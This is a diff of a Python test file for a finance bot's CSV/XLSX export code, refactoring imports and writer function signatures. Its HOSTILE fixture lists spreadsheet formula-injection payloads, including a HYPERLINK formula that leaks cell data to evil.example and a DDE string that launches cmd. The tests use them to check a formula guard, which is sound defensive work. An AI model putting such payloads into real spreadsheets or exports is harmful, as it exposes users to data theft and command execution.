@@ -25,17 +25,16 @@ import pytest
 
 from bots import formula_guard
 from bots.cashapp.engine import MatchResult, MatchStats, Unmatched
-from bots.cashapp.interchange import (
+from bots.domain import Customer, Decision, OpenItem, Proposal, RunStatus, Trigger
+from bots.formula_guard import TRIGGERS, neutralise, restore
+from bots.interchange import (
     read_open_items,
     write_customers,
     write_open_items,
     write_proposals,
 )
-from bots.domain import Customer, Decision, OpenItem, Proposal, RunStatus, Trigger
-from bots.formula_guard import TRIGGERS, neutralise, restore
 from bots.reports import RunReport, worklist_bytes
 from bots.reports.model import WORKLIST_KINDS, BotSection, BotStatus
-from bots.sap import export
 
 HOSTILE = [
     "=1+1", '=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0",
@@ -133,9 +132,9 @@ def test_worklist_xlsx(tmp_path: Path) -> None:
 
 
 @pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
-def test_sap_open_items_export(tmp_path: Path, suffix: str) -> None:
+def test_interchange_open_items(tmp_path: Path, suffix: str) -> None:
     path = tmp_path / f"open{suffix}"
-    assert export.write_open_items(hostile_items(), path) == len(HOSTILE)
+    assert write_open_items(hostile_items(), path) == len(HOSTILE)
     if suffix == ".xlsx":
         rows = [[c.value for c in row]
                 for row in check_xlsx(path.read_bytes(), path.name).active.iter_rows()]
@@ -150,13 +149,10 @@ def test_sap_open_items_export(tmp_path: Path, suffix: str) -> None:
                                                                      Decimal("-12.50")]
 
 
-def test_interchange_open_items_and_customers(tmp_path: Path) -> None:
-    write_open_items(tmp_path / "OPEN.csv", hostile_items())
-    rows = check_csv(tmp_path / "OPEN.csv")
-    assert rows[2][rows[0].index("amount")] == "-12.50"
-    write_customers(tmp_path / "CUST.csv", [
+def test_interchange_customers(tmp_path: Path) -> None:
+    write_customers([
         Customer(f"00001000{n:02d}", text, parent=HOSTILE[-1], aliases=(text, "ACME"))
-        for n, text in enumerate(HOSTILE)])
+        for n, text in enumerate(HOSTILE)], tmp_path / "CUST.csv")
     check_csv(tmp_path / "CUST.csv")
 
 
@@ -168,7 +164,7 @@ def test_match_proposals_csv(tmp_path: Path) -> None:
         unmatched=[Unmatched(text, None, text, Decimal("-12.50"), "USD", text)
                    for text in HOSTILE],
         on_account=[], stats=MatchStats())
-    assert write_proposals(tmp_path / "PROPOSALS.csv", result) == 2 * len(HOSTILE)
+    assert write_proposals(result, tmp_path / "PROPOSALS.csv") == 2 * len(HOSTILE)
     rows = check_csv(tmp_path / "PROPOSALS.csv")
     applied = rows[0].index("applied_amount")
     assert rows[1][applied] == "-12.50"
